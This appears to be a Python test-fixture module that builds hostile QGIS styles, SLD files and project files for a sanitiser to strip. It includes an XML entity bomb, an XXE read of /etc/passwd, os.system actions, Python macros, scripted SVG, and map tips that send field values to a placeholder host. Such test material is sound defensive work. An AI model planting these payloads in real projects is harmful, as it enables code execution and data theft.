# SPDX-License-Identifier: GPL-2.0-or-later
"""Styles, projects and catalogues that try to do harm: each names what must not be left of it."""

import base64
import io
import zipfile

BOMB = (
    '<?xml version="1.0"?><!DOCTYPE qgis [<!ENTITY a "ha">'
    + "".join(f'<!ENTITY {chr(98 + n)} "{("&" + chr(97 + n) + ";") * 10}">' for n in range(9))
    + "]><qgis><renderer-v2>&j;</renderer-v2></qgis>"
)
READS_FILE = '<!DOCTYPE qgis [<!ENTITY x SYSTEM "file:///etc/passwd">]><qgis><renderer-v2>&x;</renderer-v2></qgis>'


def marker(kind, option, value, extra=""):
    return (
        f'<renderer-v2 type="singleSymbol"><symbols><symbol name="0" type="marker"><layer class="{kind}"><Option type="Map">'
        f'<Option name="{option}" type="QString" value="{value}"/><Option name="size" type="QString" value="4"/></Option>{extra}'
        "</layer></symbol></symbols></renderer-v2>"
    )


def defined(name, expression):
    return (
        '<data_defined_properties><Option type="Map"><Option name="name" type="QString" value=""/><Option name="properties" type="Map">'
        f'<Option name="{name}" type="Map"><Option name="active" type="bool" value="true"/>'
        f'<Option name="expression" type="QString" value="{expression}"/><Option name="type" type="int" value="3"/></Option>'
        "</Option></Option></data_defined_properties>"
    )


def embedded(svg):
    return "base64:" + base64.b64encode(svg.encode()).decode()


SCRIPTED = embedded('<svg xmlns="http://www.w3.org/2000/svg"><script>HARM()</script></svg>')
LINKED = embedded(
    '<svg xmlns="http://www.w3.org/2000/svg" xmlns:x="http://www.w3.org/1999/xlink"><image x:href="http://HARM/"/></svg>'
)

STYLES = {
    "action": '<attributeactions><actionsetting action="import os; os.system(\'HARM\')" type="1"/></attributeactions>',
    "form init code": "<editforminitcode><![CDATA[def open(*a): HARM()]]></editforminitcode><editforminit>open</editforminit>",
    "form init file": "<editforminitfilepath>HARM.py</editforminitfilepath>",
    "form of a file": '<editform tolerant="1">HARM.ui</editform>',
    "default that opens a layer": "<defaults><default field=\"a\" expression=\"load_layer('HARM','ogr')\"/></defaults>",
    "default behind a comment": '<defaults><default field="a" expression="env/* HARM */(\'HOME\')"/></defaults>',
    "default behind a line comment": "<defaults><default field=\"a\" expression=\"ENV -- HARM&#10; ('HOME')\"/></defaults>",
    "hidden function": "<expressionfields><field expression=\"eval('lo'||'ad_layer(HARM)')\" name=\"v\"/></expressionfields>",
    "constraint": '<constraintExpressions><constraint exp="file_exists(\'HARM\')" field="a"/></constraintExpressions>',
    "symbol from the web": marker("SvgMarker", "name", "http://HARM/x.svg"),
    "symbol from https": marker("SvgMarker", "name", "https://HARM.example.org/x.svg"),
    "symbol from a file": marker("SvgMarker", "name", "/home/HARM/x.svg"),
    "symbol from file:": marker("SvgMarker", "name", "file:///HARM.svg"),
    "symbol that climbs": marker("SvgMarker", "name", "../../HARM.svg"),
    "symbol from a share": marker("SvgMarker", "name", "\\\\10.0.0.1\\HARM\\x.svg"),
    "symbol from a drive": marker("SvgMarker", "name", "C:/HARM/x.svg"),
    "symbol from an archive": marker("SvgMarker", "name", "/vsicurl/http://HARM/x"),
    "raster symbol": marker("RasterMarker", "imageFile", "http://HARM/x.png"),
    "raster fill in an old style": '<renderer-v2><symbols><symbol><layer class="RasterFill"><prop k="imageFile" v="http://HARM/x.png"/>'
    "</layer></symbol></symbols></renderer-v2>",
    "symbol by expression": marker("SvgMarker", "name", "gpsicons/plane.svg", defined("name", "'ht'||'tp://HARM/'||&quot;nom&quot;")),
    "picture by expression": marker("RasterMarker", "imageFile", "", defined("file", "'HARM'||&quot;nom&quot;")),
    "symbol by an old expression": '<renderer-v2><symbols><symbol><layer class="SvgMarker"><prop k="name_dd_expression" v="\'HARM\'"/>'
    "</layer></symbol></symbols></renderer-v2>",
    "embedded picture with a script": marker("SvgMarker", "name", SCRIPTED).replace(SCRIPTED, SCRIPTED + ""),
    "embedded picture with a link": marker("SvgMarker", "name", LINKED),
    "label background": '<labeling><settings><text-style><background shapeSVGFile="http://HARM/x.svg"/></text-style></settings></labeling>',
    "label background by expression": f"<labeling><settings>{defined('ShapeSVGFile', 'HARM')}</settings></labeling>",
    "map tip with a script": "<mapTip>&lt;script&gt;HARM()&lt;/script&gt;</mapTip>",
    "map tip with an event": "<mapTip>&lt;p onmouseover='HARM()'&gt;x&lt;/p&gt;</mapTip>",
    "map tip with a picture": "<mapTip>&lt;img src='http://HARM/?[% \"nom\" %]'&gt;</mapTip>",
    "map tip with a frame": "<mapTip>&lt;iframe src='file:///HARM'&gt;&lt;/iframe&gt;</mapTip>",
    "map tip that writes a picture": "<mapTip>[% '&lt;img src=\"http://HARM/' || \"nom\" || '\"&gt;' %]</mapTip>",
    "map tip that hides a picture": "<mapTip>[% char(60) || 'img src=HARM' %]</mapTip>",
    "map tip that reads": "<mapTip>[% env('HARM') %]</mapTip>",
    "page in a form": '<attributeEditorForm><attributeEditorQmlElement name="x">HARM.run()</attributeEditorQmlElement></attributeEditorForm>',
    "web page as a field": '<fieldConfiguration><field name="a"><editWidget type="ExternalResource"><config><Option value="HARM"/></config>'
    "</editWidget></field></fieldConfiguration>",
    "layer of a list": '<fieldConfiguration><field name="a"><editWidget type="ValueRelation"><config><Option name="LayerSource" '
    'value="dbname=\'HARM\' host=10.0.0.1"/></config></editWidget></field></fieldConfiguration>',
    "custom property": '<customproperties><Option type="Map"><Option name="x" value="HARM"/></Option></customproperties>',
    "unknown part": "<HARMful-part>HARM</HARMful-part>",
    "three dimensions": '<renderer-3d type="vector"><model path="HARM"/></renderer-3d>',
}  # fmt: skip

SLD_HEAD = (
    '<StyledLayerDescriptor xmlns="http://www.opengis.net/sld" xmlns:ogc="http://www.opengis.net/ogc" '
    'xmlns:xlink="http://www.w3.org/1999/xlink" version="1.0.0"><NamedLayer><UserStyle><FeatureTypeStyle><Rule>'
)
SLD_TAIL = "</Rule></FeatureTypeStyle></UserStyle></NamedLayer></StyledLayerDescriptor>"
SLDS = {
    "graphic from the web": '<PointSymbolizer><Graphic><ExternalGraphic><OnlineResource xlink:href="http://HARM/x.svg"/><Format>image/svg'
    "</Format></ExternalGraphic></Graphic></PointSymbolizer>",
    "graphic from a file": '<PointSymbolizer><Graphic><ExternalGraphic><OnlineResource xlink:href="file:///HARM"/></ExternalGraphic></Graphic>'
    "</PointSymbolizer>",
    "remote features": '<RemoteOWS><Service>WFS</Service><OnlineResource xlink:href="http://HARM/wfs"/></RemoteOWS>',
    "function": '<ogc:Filter><ogc:Function name="env"><ogc:Literal>HARM</ogc:Literal></ogc:Function></ogc:Filter>',
    "label that reads": "<TextSymbolizer><Label>load_layer('HARM','ogr')</Label></TextSymbolizer>",
}

LAYER = (
    '<maplayer type="vector"><id>l1</id><datasource>{source}</datasource><layername>x</layername><provider>{provider}</provider>{more}'
    "</maplayer>"
)


def project(more="", source="", provider="memory", layer_more=""):
    layer = LAYER.format(source=source or "Point?crs=EPSG:2154", provider=provider, more=layer_more)
    return (
        "<!DOCTYPE qgis PUBLIC 'http://mrcc.com/qgis.dtd' 'SYSTEM'><qgis version=\"3.40.6\" projectname=\"p\">"
        f'<layer-tree-group><layer-tree-layer id="l1" name="x" source="{source}"/></layer-tree-group>'
        f"<projectlayers>{layer}</projectlayers>{more}</qgis>"
    )


PROJECTS = {
    "macro": project('<properties><Macros><pythonCode type="QString">HARM()</pythonCode></Macros></properties>'),
    "functions": project('<properties><ExpressionFunctions><pythonCode type="QString">HARM()</pythonCode></ExpressionFunctions></properties>'),
    "action of a layer": project(layer_more=STYLES["action"]),
    "form of a layer": project(layer_more=STYLES["form init code"]),
    "picture of a layout": project('<Layouts><Layout><LayoutItem type="65640" file="http://HARM/x.png"/></Layout></Layouts>'),
    "page of a layout": project('<Layouts><Layout><LayoutMultiFrame url="http://HARM/" html=""/></Layout></Layouts>'),
    "script of a layout": project('<Layouts><Layout><LayoutMultiFrame html="&lt;script&gt;HARM()&lt;/script&gt;"/></Layout></Layouts>'),
    "file of elsewhere": project(source="/home/HARM/x.gpkg|layername=x", provider="ogr"),
    "file that climbs": project(source="../../HARM/x.gpkg", provider="ogr"),
    "share of elsewhere": project(source="\\\\10.0.0.1\\HARM\\x.shp", provider="ogr"),
    "file of the web": project(source="/vsicurl/http://HARM/x.gpkg", provider="ogr"),
    "database of elsewhere": project(source="dbname='x' host=HARM port=5432 table=&quot;a&quot;.&quot;b&quot;", provider="postgres"),
    "service of elsewhere": project(source="url=http://HARM/wfs typename=x", provider="WFS"),
    "virtual layer": project(source="?query=SELECT%20load_extension('HARM')", provider="virtual"),
    "layer of another project": project().replace('<maplayer type="vector">', '<maplayer type="vector" embedded="1" project="HARM.qgs">'),
    "theme that reads": project("<visibility-presets><x expression=\"env('HARM')\"/></visibility-presets>"),
}  # fmt: skip


def packed(members):
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in members:
            archive.writestr(name, content)
    return made.getvalue()
